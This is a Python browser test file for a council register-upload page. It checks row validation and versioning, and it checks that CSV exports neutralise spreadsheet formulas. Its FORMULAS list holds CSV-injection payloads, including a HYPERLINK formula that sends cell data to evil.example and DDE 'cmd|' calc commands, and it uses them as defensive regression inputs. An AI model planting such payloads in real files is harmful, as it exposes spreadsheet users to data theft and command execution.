"""Officers upload the inclusion register in the browser: a bad file is refused row by row and
changes nothing; a good one is previewed, confirmed, stored as a version and rebuilt into every page."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipeline.ingest import register
from pipeline.build.database import build
from pipeline.ingest.csv_safety import neutralise_cell
from pipeline.store.queries import Database

from devtools.harness import AppServer, wait_ready

HEADER = ",".join(register.COLUMNS)


@pytest.fixture()
def officer_server(tmp_path, monkeypatch):
    monkeypatch.setenv("ONE_STOCKPORT_AUDIENCE", "internal")
    monkeypatch.setenv("ONE_STOCKPORT_TRUSTED_NETWORK", "1")
    monkeypatch.setenv("ONE_STOCKPORT_REGISTER_DIR", str(tmp_path / "register"))
    db = tmp_path / "officer.duckdb"
    build(db)
    app = AppServer(db).start()
    yield app, db, tmp_path / "register"
    app.stop()


def _upload(page, path: Path) -> None:
    page.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files(str(path))


def test_upload_refuses_bad_rows_then_previews_confirms_and_rebuilds(browser, officer_server, tmp_path):
    app, db, folder = officer_server
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    try:
        page.goto(app.url + "/register")
        wait_ready(page)
        assert page.locator("h1").first.inner_text() == "Inclusion register"
        build_before = Database(db).build_info()["build_id"]

        bad = tmp_path / "bad_register.csv"
        bad.write_text(
            "\n".join(
                [
                    HEADER,
                    "2026-05,E05015018,Library,2,5,forty,3,2,published",
                    "2026-05,Narnia,Library,2,5,40,3,2,published",
                ]
            )
            + "\n",
            encoding="utf-8",
        )
        _upload(page, bad)
        page.get_by_text("bad_register.csv was not accepted: 2 problem(s)").wait_for(timeout=30000)
        wait_ready(page)
        problems = page.locator('[data-testid="stDataFrame"]').first.inner_text()
        assert "residents_supported" in problems or page.get_by_text("residents_supported").count()
        assert Database(db).build_info()["build_id"] == build_before and register.versions(folder) == []

        good = tmp_path / "march_register.csv"
        good.write_text(
            "\n".join(
                [
                    HEADER,
                    "2026-05,E05015018,Library,2,5,40,3,2,published",
                    "2026-05,Heatons North,Library,1,2,12,0,1,published",
                ]
            )
            + "\n",
            encoding="utf-8",
        )
        _upload(page, good)
        page.get_by_text("march_register.csv passed every check").wait_for(timeout=30000)
        wait_ready(page)
        assert "2 added" in page.locator('[data-testid="stMarkdown"]', has_text="passed every check").inner_text()
        page.get_by_role("button", name="Confirm: store this version and rebuild").click()
        page.get_by_text("is now current").wait_for(timeout=60000)
        wait_ready(page)
        versions = register.versions(folder)
        assert len(versions) == 1 and versions[0].current and versions[0].rows == 2
        assert Database(db).build_info()["build_id"] != build_before
        totals = Database(db).series("inclusion_residents_supported", ["E08000007"], "internal")
        assert list(totals.value) == [52] and list(totals.status) == ["published"]

        # The file is still in the uploader: it is now the current register, so there is nothing to
        # confirm, and uploading it again stores no second version.
        page.get_by_text("march_register.csv is the same as the current register").wait_for(timeout=30000)
        assert page.get_by_role("button", name="Confirm: store this version and rebuild").count() == 0
        _upload(page, good)
        page.get_by_text("march_register.csv is the same as the current register").wait_for(timeout=30000)
        wait_ready(page)
        assert page.get_by_role("button", name="Confirm: store this version and rebuild").count() == 0
        assert len(register.versions(folder)) == 1

        page.goto(app.url + "/inclusion?section=reach")  # the officers' reach section reads the register
        wait_ready(page)
        assert page.get_by_text("SAMPLE data from the shipped register").count() == 0
        assert page.get_by_text("Are we reaching the right places?").count() == 1
    finally:
        context.close()


# The browser's "save file" dialog, answered by the page itself: what the grid's "Download as CSV" writes
# is kept in window.__exports (Streamlit writes it through showSaveFilePicker where the browser has it).
CAPTURE_EXPORTS = """
window.__exports = [];
window.showSaveFilePicker = async () => ({createWritable: async () => {
  let text = ''; const decoder = new TextDecoder();
  return {write: async chunk => { text += decoder.decode(chunk); }, close: async () => { window.__exports.push(text); }};
}});
"""
# From the hostile tester's uploads (issue 30), and the forms validation turns into a plain sign:
# full-width, after spaces or a tab.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Library")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|'/c calc'!A1",
    "=1+1",
    "\uff1d2+2",
    "  =3+3",
    "\t-4+4",
]


def _grid_csv(page, grid) -> list[list[str]]:
    """The rows the grid's toolbar "Download as CSV" gives the browser."""
    import csv
    import io

    before = page.evaluate("window.__exports.length")
    grid.hover()  # the toolbar shows on hover; the grid's own canvas can lie over it, so the click goes to the button
    grid.get_by_role("button", name="Download as CSV").dispatch_event("click")
    page.wait_for_function(f"window.__exports.length > {before}")
    return list(csv.reader(io.StringIO(page.evaluate("window.__exports.at(-1)").lstrip("\ufeff"))))


def _runs_as_formula(cell: str) -> bool:
    return neutralise_cell(cell) != cell and not cell.startswith("'")


def test_every_csv_the_register_page_gives_a_browser_has_its_formulas_made_inert(browser, officer_server, tmp_path):
    """Issue 30: the grids' own "Download as CSV" returned uploaded formulas raw: in the preview, in the
    problems found (a column named like a formula), and in "Rows removed", which reads back what another
    officer stored. Every CSV the grids give now reads as the product's downloads do."""
    app, _, folder = officer_server
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(CAPTURE_EXPORTS)
    page = context.new_page()
    exported: list[list[str]] = []
    try:
        page.goto(app.url + "/register")
        wait_ready(page)
        hostile = tmp_path / "hostile.csv"
        with hostile.open("w", newline="", encoding="utf-8") as f:
            import csv

            csv.writer(f).writerows(
                [register.COLUMNS]
                + [["2026-05", "E05015018", partner, 1, 2, 3, 0, 1, "published"] for partner in FORMULAS]
            )
        bad = tmp_path / "bad_header.csv"
        bad.write_text(HEADER + ",=1+1,=1+1\n2026-05,E05015018,Library,2,5,40,3,2,published,,\n", encoding="utf-8")
        _upload(page, bad)
        page.get_by_text("bad_header.csv was not accepted").wait_for(timeout=30000)
        wait_ready(page)
        exported += _grid_csv(page, page.locator('[data-testid="stDataFrame"]').first)

        _upload(page, hostile)
        page.get_by_text("hostile.csv passed every check").wait_for(timeout=30000)
        wait_ready(page)
        page.get_by_text(f"Rows added ({len(FORMULAS)})").click()
        exported += _grid_csv(page, page.locator('[data-testid="stDataFrame"]').first)
        page.get_by_role("button", name="Confirm: store this version and rebuild").click()
        page.get_by_text("is now current").wait_for(timeout=60000)
        wait_ready(page)

        plain = tmp_path / "plain.csv"  # another officer's upload: the hostile rows are "removed"
        plain.write_text(HEADER + "\n2026-05,E05015018,Library,2,5,40,3,2,published\n", encoding="utf-8")
        _upload(page, plain)
        page.get_by_text("plain.csv passed every check").wait_for(timeout=30000)
        wait_ready(page)
        page.get_by_text(f"Rows removed ({len(FORMULAS)})").click()
        exported += _grid_csv(page, page.locator('[data-testid="stDataFrame"]').last)
    finally:
        context.close()
    cells = [cell for row in exported for cell in row]
    assert not [c for c in cells if _runs_as_formula(c)], exported
    # Every hostile cell reached a grid, each inert, in the problems, the preview and the rows removed.
    assert sum(c.startswith("'") for c in cells) == 1 + 2 * len(FORMULAS), exported
